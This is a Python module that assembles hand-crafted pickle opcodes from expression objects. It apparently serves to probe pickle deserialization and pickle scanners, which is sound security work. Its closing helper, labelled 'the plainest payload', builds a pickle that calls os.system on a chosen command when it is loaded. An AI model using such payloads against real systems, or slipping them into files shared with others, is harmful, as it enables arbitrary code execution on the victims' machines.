"""A small pickle assembler: expressions to opcodes at a chosen protocol.

Expressions are ordinary Python values plus G (a global), R (REDUCE), New (NEWOBJ[_EX]),
Build (BUILD), Inst (INST), Obj (OBJ) and Raw (opcodes given as bytes).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass


@dataclass(frozen=True)
class G:
    """A global, `module` and possibly dotted `name`."""

    module: str
    name: str


class R:
    """callable(*args)."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args


class New:
    """cls.__new__(cls, *args, **kwargs)."""

    def __init__(self, cls: object, *args: object, kwargs: dict | None = None) -> None:
        self.cls, self.args, self.kwargs = cls, args, kwargs


class Build:
    """BUILD: give `state` to the object of `target`."""

    def __init__(self, target: object, state: object) -> None:
        self.target, self.state = target, state


class Inst:
    """INST: the oldest class-instance opcode; calls module.name(*args)."""

    def __init__(self, module: str, name: str, *args: object) -> None:
        self.module, self.name, self.args = module, name, args


class Obj:
    """OBJ: MARK, callable, args, OBJ."""

    def __init__(self, cls: object, *args: object) -> None:
        self.cls, self.args = cls, args


@dataclass(frozen=True)
class Raw:
    """Opcodes inserted unchanged."""

    code: bytes


def g(path: str) -> G:
    """`module:name` as a global."""
    module, name = path.split(":")
    return G(module, name)


def line(op: bytes, *words: str) -> bytes:
    """A text opcode with newline-ended arguments."""
    return op + b"".join(w.encode() + b"\n" for w in words)


def text(value: str, proto: int) -> bytes:
    """A string in the natural opcode of the protocol."""
    if proto == 0:
        return b"V" + value.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"
    data = value.encode()
    if proto >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def blob(value: bytes, proto: int) -> bytes:
    """Bytes; below protocol 3 they travel through _codecs.encode."""
    if proto < 3:
        return encode(R(G("_codecs", "encode"), value.decode("latin-1"), "latin1"), proto)
    if len(value) < 256:
        return b"C" + bytes([len(value)]) + value
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value: int, proto: int) -> bytes:
    """An integer."""
    if proto == 0:
        return b"I%d\n" % value
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if -2**31 <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    return b"L%dL\n" % value


def sequence(values: tuple, proto: int) -> bytes:
    """A tuple."""
    if proto >= 2 and len(values) <= 3:
        short = (b")", b"\x85", b"\x86", b"\x87")[len(values)]
        return b"".join(encode(v, proto) for v in values) + short
    return b"(" + b"".join(encode(v, proto) for v in values) + b"t"


def encode(value: object, proto: int) -> bytes:
    """The opcodes leaving `value` on the stack."""
    if isinstance(value, Raw):
        return value.code
    if isinstance(value, G):
        if proto >= 4:
            return text(value.module, proto) + text(value.name, proto) + b"\x93"
        return line(b"c", value.module, value.name)
    if isinstance(value, R):
        return encode(value.func, proto) + sequence(value.args, proto) + b"R"
    if isinstance(value, New):
        head = encode(value.cls, proto) + sequence(value.args, proto)
        return head + (b"\x81" if value.kwargs is None else encode(value.kwargs, proto) + b"\x92")
    if isinstance(value, Build):
        return encode(value.target, proto) + encode(value.state, proto) + b"b"
    if isinstance(value, Inst):
        args = b"".join(encode(a, proto) for a in value.args)
        return b"(" + args + line(b"i", value.module, value.name)
    if isinstance(value, Obj):
        return b"(" + encode(value.cls, proto) + b"".join(encode(a, proto) for a in value.args) + b"o"
    return _plain(value, proto)


def _plain(value: object, proto: int) -> bytes:
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return (b"\x88" if value else b"\x89") if proto >= 2 else b"I0%d\n" % value
    if isinstance(value, int):
        return integer(value, proto)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value) if proto else b"F%r\n" % value
    if isinstance(value, str):
        return text(value, proto)
    if isinstance(value, bytes):
        return blob(value, proto)
    if isinstance(value, tuple):
        return sequence(value, proto)
    if isinstance(value, list):
        return b"(l" + b"".join(encode(v, proto) + b"a" for v in value)
    if isinstance(value, dict):
        return b"(d" + b"".join(encode(k, proto) + encode(v, proto) + b"s" for k, v in value.items())
    raise TypeError(f"cannot encode {type(value).__name__}")


def wrap(body: bytes, proto: int = 4, frame: bool = True, stop: bytes = b".") -> bytes:
    """A whole pickle around ready opcodes."""
    code = body + stop
    if proto < 2:
        return code
    head = b"\x80" + bytes([proto])
    return head + (b"\x95" + struct.pack("<Q", len(code)) if proto >= 4 and frame else b"") + code


def dump(value: object, proto: int = 4, frame: bool = True) -> bytes:
    """A whole pickle of an expression."""
    return wrap(encode(value, proto), proto, frame)


def system(command: str = "true", module: str = "os") -> R:
    """The plainest payload."""
    return R(G(module, "system"), command)
